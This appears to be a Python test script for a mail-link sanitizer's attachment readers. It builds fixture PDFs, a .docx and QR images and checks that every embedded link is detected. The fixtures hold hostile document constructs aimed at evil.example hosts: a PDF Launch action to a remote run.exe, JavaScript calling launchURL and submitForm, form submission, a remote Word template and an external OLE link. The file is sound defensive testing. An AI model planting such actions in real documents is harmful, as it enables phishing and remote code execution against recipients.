#!/usr/bin/env python3
"""The readers of binary attachments (src/mail/readers.h) on files made
here with the real formats: PDFs by reportlab and by hand, rewritten by
qpdf with compressed object streams and encrypted with the empty user
password; a .docx by python3-docx with external relationships added as
Word writes them; QR codes by python3-qrcode saved as PNG, JPEG, GIF and
WebP by PIL. Each link is found with its kind and page, in the sandboxed
child process and in-process; then a message carrying them goes through
`urisan extract --mail --json`, and a reader that reaches a bound is told
as mail_limit and denied.

usage: readers_test.py READERS_TOOL URISAN
"""
import email.message
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import zipfile

try:
    import docx
    import qrcode
    from PIL import Image
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas
except ImportError as e:
    print(f"SKIP: {e} (python3-docx, python3-qrcode, python3-pil, python3-reportlab)")
    sys.exit(77)
if shutil.which("qpdf") is None:
    print("SKIP: qpdf not installed")
    sys.exit(77)

TOOL, URISAN = sys.argv[1], sys.argv[2]
failures = []


def check(cond, what):
    print(("ok   " if cond else "FAIL ") + what)
    if not cond:
        failures.append(what)


# rd_kind (readers.h)
PDF_URI, PDF_LAUNCH, PDF_GOTOR, PDF_SUBMIT, PDF_JS = 1, 2, 3, 4, 5
OOXML_EXTERNAL, OOXML_HYPERLINK, OOXML_TEMPLATE, OOXML_OLE, QR, OOXML_FIELD = 6, 7, 8, 9, 10, 11


def run_tool(reader, path, mode="isolated", *extra):
    out = subprocess.run([TOOL, reader, path, mode, *extra], capture_output=True, text=True,
                         timeout=60, check=True).stdout
    found, notes, status = [], [], None
    for line in out.splitlines():
        w = line.split(" ", 3)
        if w[0] == "found":
            found.append((int(w[1]), int(w[2]), w[3] if len(w) > 3 else ""))
        elif w[0] == "note":
            notes.append(line)
        elif w[0] == "status":
            status = int(w[1])
    return found, notes, status


def raw_pdf(objs):
    """A PDF of the objects objs (bodies, numbered from 1), with its xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offs = []
    for i, body in enumerate(objs, 1):
        offs.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    x = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for o in offs:
        out.write(b"%010d 00000 n \n" % o)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x))
    return out.getvalue()


def actions_pdf():
    """Two pages: page 1 a link annotation (URI) and a Launch; page 2 a
    GoToR and a widget whose action submits the form; the document opens
    with JavaScript calling app.launchURL (its URL split across '+') and
    this.submitForm; an action no tree reaches holds a URI too."""
    js = b"app.launchURL('http://js-' + 'launch.evil.example/a', true); this.submitForm({cURL: \"https://js-submit.evil.example/post\"});"
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R /AcroForm << /Fields [8 0 R] >> >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R 6 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [9 0 R 8 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://annot-uri.evil.example/p1) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /Win << /F (\\\\\\\\share.evil.example\\\\pub\\\\run.exe) >> >> >>",
        b"<< /S /JavaScript /JS (" + js.replace(b"(", b"\\(").replace(b")", b"\\)") + b") >>",
        b"<< /FT /Btn /T (go) /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /P 4 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://form-submit.evil.example/collect) >> >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (http://gotor.evil.example/remote.pdf) /D [0 /Fit] >> >>",
        b"<< /S /URI /URI (https://orphan-action.evil.example/) >>",
    ])


def qr_image(text):
    return qrcode.make(text).get_image().convert("L")


def reportlab_pdf(path):
    c = canvas.Canvas(path)
    c.drawString(100, 750, "page one")
    c.linkURL("http://rl-page1.evil.example/a", (100, 700, 200, 720))
    c.showPage()
    c.drawString(100, 750, "page two")
    c.linkURL("https://rl-page2.evil.example/login", (100, 700, 200, 720))
    c.drawImage(ImageReader(qr_image("http://qr-in-pdf.evil.example/x")), 100, 300, 200, 200)
    c.showPage()
    c.save()


def make_docx(path):
    d = docx.Document()
    d.add_paragraph("Dear customer")
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    d.part.relate_to("https://docx-hyperlink.evil.example/h", rel + "hyperlink", is_external=True)
    d.part.relate_to("\\\\ole.evil.example\\share\\sheet.xlsx", rel + "oleObject", is_external=True)
    d.part._settings_part.relate_to("http://template.evil.example/t.dotm", rel + "attachedTemplate",
                              is_external=True)
    d.save(path)
    # a field code, as Word writes one
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    body = members["word/document.xml"].decode()
    field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
             ' HYPERLINK "https://docx-field.evil.example/f" </w:instrText></w:r>'
             '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    body = body.replace("</w:body>", field + "</w:body>") if "<w:sectPr" not in body else \
        body.replace("<w:sectPr", field + "<w:sectPr", 1)
    members["word/document.xml"] = body.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, b in members.items():
            z.writestr(n, b)


def main():
    tmp = tempfile.mkdtemp(prefix="urisan-readers-")
    try:
        p = lambda n: os.path.join(tmp, n)
        open(p("actions_plain.pdf"), "wb").write(actions_pdf())
        subprocess.run(["qpdf", "--object-streams=generate", "--compress-streams=y",
                        p("actions_plain.pdf"), p("actions.pdf")], check=True)
        subprocess.run(["qpdf", "--encrypt", "", "owner-secret", "256", "--",
                        p("actions.pdf"), p("actions_enc.pdf")], check=True)
        check(b"/ObjStm" in open(p("actions.pdf"), "rb").read(),
              "the test PDF holds a compressed object stream")
        check(b"/Encrypt" in open(p("actions_enc.pdf"), "rb").read(),
              "the test PDF is encrypted")
        want = {
            (PDF_URI, 1, "https://annot-uri.evil.example/p1"),
            (PDF_LAUNCH, 1, "\\\\share.evil.example\\pub\\run.exe"),
            (PDF_GOTOR, 2, "http://gotor.evil.example/remote.pdf"),
            (PDF_SUBMIT, 2, "https://form-submit.evil.example/collect"),
            (PDF_JS, 0, "http://js-launch.evil.example/a"),
            (PDF_JS, 0, "https://js-submit.evil.example/post"),
        }
        orphan = (PDF_URI, 0, "https://orphan-action.evil.example/")
        for f in ("actions_plain.pdf", "actions.pdf", "actions_enc.pdf"):
            for mode in ("isolated", "here"):
                found, notes, st = run_tool("pdf", p(f), mode)
                if f == "actions_plain.pdf":  # qpdf drops what nothing refers to
                    check(orphan in found, f"{f} ({mode}): an action no tree reaches is swept")
                got = {x for x in found if x[0] != PDF_JS} | {x for x in found if x[0] == PDF_JS and x[2].startswith("http")}
                check(want <= got and st == 0 and not notes,
                      f"{f} ({mode}): every action with its page: {sorted(want - got)} missing, {notes}")

        # A page tree that holds itself (/Kids [3 0 R 2 0 R]) and a widget
        # whose /P names a page: qpdf_find_page_by_oh recursed without end
        # on such a tree (stack overflow). qpdf refuses the tree; the
        # actions are swept, and the pages whose images were not searched
        # are a limit (the message is denied, not passed).
        cyc = actions_pdf().replace(b"/Kids [3 0 R 4 0 R] /Count 2", b"/Kids [3 0 R 2 0 R] /Count 2")
        open(p("cycle.pdf"), "wb").write(cyc)
        for mode in ("isolated", "here"):
            found, notes, st = run_tool("pdf", p("cycle.pdf"), mode)
            texts = {(k, t) for k, _, t in found}
            check({(PDF_URI, "https://annot-uri.evil.example/p1"),
                   (PDF_SUBMIT, "https://form-submit.evil.example/collect")} <= texts
                  and st == 1 and any("page tree" in n for n in notes),
                  f"a page tree with a cycle ({mode}): the actions swept, the unread pages told "
                  f"as a limit ({found}, {notes})")

        reportlab_pdf(p("rl.pdf"))
        subprocess.run(["qpdf", "--object-streams=generate", p("rl.pdf"), p("rl_os.pdf")], check=True)
        found, notes, st = run_tool("pdf", p("rl_os.pdf"))
        check({(PDF_URI, 1, "http://rl-page1.evil.example/a"),
               (PDF_URI, 2, "https://rl-page2.evil.example/login"),
               (QR, 2, "http://qr-in-pdf.evil.example/x")} <= set(found) and st == 0,
              f"reportlab PDF: links and the QR code of an image on page 2 ({found})")

        make_docx(p("a.docx"))
        found, notes, st = run_tool("ooxml", p("a.docx"))
        check({(OOXML_HYPERLINK, 0, "https://docx-hyperlink.evil.example/h"),
               (OOXML_OLE, 0, "\\\\ole.evil.example\\share\\sheet.xlsx"),
               (OOXML_TEMPLATE, 0, "http://template.evil.example/t.dotm")} <= set(found)
              and any(k == OOXML_FIELD and "docx-field.evil.example" in t for k, _, t in found)
              and st == 0, f"docx: hyperlink, OLE link, remote template, field code ({found})")

        for ext, mode in (("png", "L"), ("jpg", "RGB"), ("gif", "L"), ("webp", "RGB")):
            url = f"https://qr-{ext}.evil.example/q"
            kw = {"lossless": True} if ext == "webp" else {}
            qr_image(url).convert(mode).save(p("q." + ext), **kw)
            found, notes, st = run_tool("image", p("q." + ext))
            check(found == [(QR, 0, url)] and st == 0, f"QR code in a {ext.upper()} image ({found})")

        # A GIF cut inside its last frame: giflib hands over that frame's
        # raster half decoded (the rest uninitialised memory, so two runs
        # differed). It is told, the frames before it searched.
        gif = open(p("q.gif"), "rb").read()
        open(p("cut.gif"), "wb").write(gif[:len(gif) * 2 // 3])
        runs = [run_tool("image", p("cut.gif"), mode) for mode in ("isolated", "here", "here")]
        check(all(r == runs[0] for r in runs) and runs[0][2] == 2
              and any("truncated" in n for n in runs[0][1]),
              f"a GIF cut inside its frame is told, the same on every run ({runs})")

        # bounds: told, never dropped
        found, notes, st = run_tool("image", p("q.png"), "isolated", "max_pixels=100")
        check(st == 1 and notes, f"an image above the pixel bound is told as a limit ({notes})")
        found, notes, st = run_tool("pdf", p("rl_os.pdf"), "isolated", "max_pages=1")
        check(st == 1 and (PDF_URI, 1, "http://rl-page1.evil.example/a") in found,
              f"a PDF above the page bound: the pages below it read, the limit told ({found}, {notes})")
        open(p("broken.pdf"), "wb").write(b"%PDF-1.7\n" + os.urandom(64))
        found, notes, st = run_tool("pdf", p("broken.pdf"))
        check(st == 2 and notes, f"a PDF qpdf cannot read is told ({notes})")
        if "address" in os.environ.get("URISAN_SANITIZE", ""):  # tests/meson.build
            print("skip a reader above its address-space bound: AddressSanitizer's shadow "
                  "memory needs more, so an ASan build sets no RLIMIT_AS")
        else:
            found, notes, st = run_tool("pdf", p("rl_os.pdf"), "isolated", "mem=20000000")
            check(st == 2 and any("killed" in n or "memory" in n or "not readable" in n
                                  for n in notes),
                  f"a reader above its address-space bound fails, and is told ({notes})")

        # the message: every door's one decision (urisan extract --mail)
        m = email.message.EmailMessage()
        m["From"], m["To"], m["Subject"] = "a@example.org", "b@example.org", "invoice"
        m.set_content("see the attachments")
        for f in ("actions_enc.pdf", "a.docx", "q.png", "q.webp"):
            m.add_attachment(open(p(f), "rb").read(), maintype="application",
                             subtype="octet-stream", filename=f)
        m.add_attachment(open(p("q.gif"), "rb").read(), maintype="image", subtype="gif",
                         disposition="inline")
        open(p("m.eml"), "wb").write(bytes(m))
        out = subprocess.run([URISAN, "extract", "--mail", "--json", p("m.eml")],
                             capture_output=True, text=True, timeout=60)
        rows = [json.loads(l) for l in out.stdout.splitlines()]
        got = {(r["context"], r.get("page"), r["uri"]) for r in rows}
        for w in [("pdf-uri", 1, "https://annot-uri.evil.example/p1"),
                  ("pdf-launch", 1, "file://share.evil.example/pub/run.exe"),
                  ("pdf-gotor", 2, "http://gotor.evil.example/remote.pdf"),
                  ("pdf-submit", 2, "https://form-submit.evil.example/collect"),
                  ("pdf-js", None, "http://js-launch.evil.example/a"),
                  ("pdf-js", None, "https://js-submit.evil.example/post"),
                  ("ooxml-hyperlink", None, "https://docx-hyperlink.evil.example/h"),
                  ("ooxml-template", None, "http://template.evil.example/t.dotm"),
                  ("ooxml-ole", None, "file://ole.evil.example/share/sheet.xlsx"),
                  ("ooxml-field", None, "https://docx-field.evil.example/f"),
                  ("qr", None, "https://qr-png.evil.example/q"),
                  ("qr", None, "https://qr-webp.evil.example/q"),
                  ("qr", None, "https://qr-gif.evil.example/q")]:
            check(w in got, f"extract --mail reports {w}")
        # a reader that fails: mail_limit, and the mail profile denies it
        m2 = email.message.EmailMessage()
        m2["From"], m2["To"], m2["Subject"] = "a@example.org", "b@example.org", "x"
        m2.set_content("see https://fine.example/")
        m2.add_attachment(open(p("broken.pdf"), "rb").read(), maintype="application",
                          subtype="pdf", filename="invoice.pdf")
        open(p("m2.eml"), "wb").write(bytes(m2))
        out = subprocess.run([URISAN, "extract", "--mail", "--json", "--profile", "mail",
                              p("m2.eml")], capture_output=True, text=True, timeout=60)
        rows = [json.loads(l) for l in out.stdout.splitlines()]
        lim = [r for r in rows if r["context"] == "limit"]
        check(len(lim) == 1 and lim[0]["limit"] == "reader" and "invoice.pdf" in
              lim[0]["limit_message"] and "mail_limit" in lim[0]["flags"] and
              lim[0]["verdict"] == "deny",
              f"an unreadable PDF is a reader limit naming the attachment, denied ({lim})")
        # no reader process (urisan-readers not where it is looked for):
        # every binary attachment is a reader limit naming the program,
        # denied; the other links are read as before
        env = dict(os.environ, URISAN_READERS=p("no-such-urisan-readers"))
        out = subprocess.run([URISAN, "extract", "--mail", "--json", "--profile", "mail",
                              p("m.eml")], capture_output=True, text=True, timeout=60, env=env)
        rows = [json.loads(l) for l in out.stdout.splitlines()]
        lim = [r for r in rows if r["context"] == "limit"]
        check(len(lim) == 5 and
              all(r["limit"] == "reader" and "could not be started" in r["limit_message"] and
                  "no-such-urisan-readers" in r["limit_message"] and r["verdict"] == "deny"
                  for r in lim),
              f"without its reader process each binary attachment is a reader limit ({lim[:2]})")
    finally:
        shutil.rmtree(tmp)
    if failures:
        print(f"{len(failures)} failed")
        sys.exit(1)


main()
